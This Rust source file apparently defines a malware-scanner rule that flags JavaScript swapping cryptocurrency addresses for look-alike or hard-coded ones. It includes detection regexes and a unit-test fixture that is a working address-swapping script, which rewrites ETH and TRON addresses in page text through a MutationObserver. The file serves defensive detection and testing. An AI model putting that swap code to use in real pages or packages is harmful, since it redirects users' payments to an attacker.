//! Rule `address-swap`.

use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// Recognises cryptocurrency addresses with format regexes and picks a replacement by string
    /// distance (Levenshtein), so the swapped address looks like the original at a glance.
    /// `critical` when the replacements are addresses fixed in the code, each paired with the
    /// format regex of its chain (a replacement table, its regexes possibly split into pieces
    /// joined at run time), in a file that rewrites what the user sees or copies: page text
    /// nodes, input values, `innerHTML`, copy events or clipboard writes.
    id: "address-swap",
    category: Crypto,
    severity: High,
    capability: Some(crate::model::Capability::WalletAccess),
    title: "swaps cryptocurrency addresses for look-alikes",
    incident: "the September 2025 chalk/debug drainer picked the Levenshtein-nearest attacker address",
    case_file: "index.js",
    flag: ["function lev(a, b) { const d = []; for (let i = 0; i <= a.length; i++) for (let j = 0; j <= b.length; j++) d[i][j] = Math.min(d[i-1][j] + 1, d[i][j-1] + 1, d[i-1][j-1] + c) } const r = [/0x[a-fA-F0-9]{40}/g, /bc1[a-z0-9]{39,59}/g]; text.replace(r[0], m => nearest(m))"],
    pass: ["const isEth = /^0x[a-fA-F0-9]{40}$/.test(a)", "function lev(a, b) { return Math.min(x + 1, y + 1, z) }",
           "const USDT = '0xdAC17F958D2ee523a2206206994597C13D831ec7'; const eth = /0x[a-fA-F0-9]{40}/g; el.innerHTML = el.textContent.replace(eth, (m) => '<a href=\"https://etherscan.example/address/' + m + '\">' + m + '</a>')"],
}

/// Address-format regex pieces, also when a regex is written as two strings joined at run time
/// (`["\\b0x", "[a-fA-F0-9]{40}"]`).
fn format_pieces() -> &'static crate::rules::gate::Re {
    crate::regex!(
        r"\[a-fA-F0-9\]\{40\}|\[0-9a-fA-F\]\{40\}|\[a-km-zA-HJ-NP-Z[0-9]-9\]\{2[0-9],|\[1-9A-HJ-NP-Za-km-z\]\{3[2-9]|bc1\[|q\[pr\]|ltc1\["
    )
}

/// Where text that users see or copy is rewritten: DOM text, inputs, copy events, the clipboard.
fn rewrites_page(text: &str) -> bool {
    crate::regex!(
        r"\.nodeValue\s*=[^=]|\.textContent\s*=[^=]|\.innerHTML\s*=[^=]|\.value\s*=[^=]|clipboardData\.setData\(|\.writeText\s*=|writeText\(|MutationObserver"
    )
    .is_match(text)
        && text.contains(".replace(")
}

/// The chains whose fixed address literal is written right beside an address-format regex, as
/// the next or previous item of one list (`["\\b0x", "[a-fA-F0-9]{40}", "0x…"]`): a table of
/// (pattern, replacement) pairs.
fn paired_chains(text: &str) -> Vec<&'static str> {
    let pieces: Vec<(usize, usize)> = format_pieces()
        .find_iter(text)
        .map(|m| (m.start(), m.end()))
        .collect();
    if pieces.is_empty() {
        return Vec::new();
    }
    // Only list punctuation and regex tails between the two: no statement, call or assignment.
    let beside = |a: usize, b: usize| {
        b >= a
            && b - a <= 40
            && text
                .get(a..b)
                .is_some_and(|g| !g.contains([';', '=', '(', ')', '{']))
    };
    let mut chains = Vec::new();
    for (chain, re) in super::address_res() {
        let near = re.find_iter(text).any(|m| {
            !m.as_str().contains("00000000000000000000")
                && pieces
                    .iter()
                    .any(|&(s, e)| beside(e, m.start()) || beside(m.end(), s))
        });
        if near {
            chains.push(*chain);
        }
    }
    chains
}

fn check_fixed(pkg: &Package, out: &mut Emitter, f: &crate::package::FileCtx, text: &str) -> bool {
    // The pieces first: their literals are rare, page-rewriting words are not.
    if !format_pieces().is_match(text) || !rewrites_page(text) {
        return false;
    }
    let chains = paired_chains(text);
    if chains.len() < 2 {
        return false;
    }
    let off = format_pieces()
        .find(text)
        .map(|m| m.start())
        .filter(|&o| o < f.text.len())
        .unwrap_or(0) as u32;
    out.hit_sev(
        crate::model::Severity::Critical,
        pkg,
        f,
        off,
        format!(
            "replaces the {} addresses it recognises in page text, inputs or the clipboard with addresses fixed in the code",
            chains.join("/")
        ),
    );
    true
}

fn check(pkg: &Package, out: &mut Emitter) {
    let distance = crate::regex!(
        r"(?i)levenshtein|Math\.min\([^()]{0,80}\+\s*1\s*,[^()]{0,80}\+\s*1|\['min'\]\([^()]{0,80}\+\s*(0x)?1\s*,"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let text = all_text(f);
        if check_fixed(pkg, out, f, text) {
            continue;
        }
        let formats = super::address_regex_count(text);
        if formats < 2 {
            continue;
        }
        let Some(m) = distance.find(text) else {
            continue;
        };
        let off = f.text_off(m.start(), 0);
        out.hit(
            pkg,
            f,
            off,
            format!("matches {formats} address formats and picks replacements by string distance"),
        );
    }
}

#[cfg(test)]
mod fixed_tests {
    use crate::model::Severity;
    use crate::rules::testing::{first_severity, run};

    #[test]
    fn a_table_of_split_address_regexes_and_fixed_addresses_rewriting_the_page_is_critical() {
        let src = r#"var n=[["\\b0x","[a-fA-F0-9]{40}\\b","0x52908400098527886E0F7030069857D2E4169EE7"],["\\bT","[1-9A-HJ-NP-Za-km-z]{33}\\b","TJRabPrwbZy45sbavfcjinPJC18kjpRTv8"]].map(function(t){return[new RegExp(t[0]+t[1],"g"),t[2]]});function r(s){for(var i=0;i<n.length;i++)s=s.replace(n[i][0],n[i][1]);return s}function o(t){if(t.nodeType===3){t.nodeValue=r(t.nodeValue)}}new MutationObserver(function(m){m.forEach(function(x){o(x.target)})}).observe(document.body,{subtree:!0,characterData:!0});"#;
        let (severity, hits) = first_severity(&super::RULE, "index.js", src);
        assert_eq!(severity, Some(Severity::Critical), "{hits}");
    }

    #[test]
    fn an_address_linker_with_a_known_contract_address_is_not_a_swap() {
        let src = r#"const TOKENS = { USDT: "0xdAC17F958D2ee523a2206206994597C13D831ec7", TRON_USDT: "TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t" }; const eth = /\b0x[a-fA-F0-9]{40}\b/g, trx = /\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g; function link(node) { node.innerHTML = node.textContent.replace(eth, (m) => `<a href="https://scan.example/${m}">${m}</a>`).replace(trx, (m) => `<a href="https://tron.example/${m}">${m}</a>`) }"#;
        let hits = run(&super::RULE, "index.js", src);
        assert!(hits.is_empty(), "{hits:?}");
    }
}
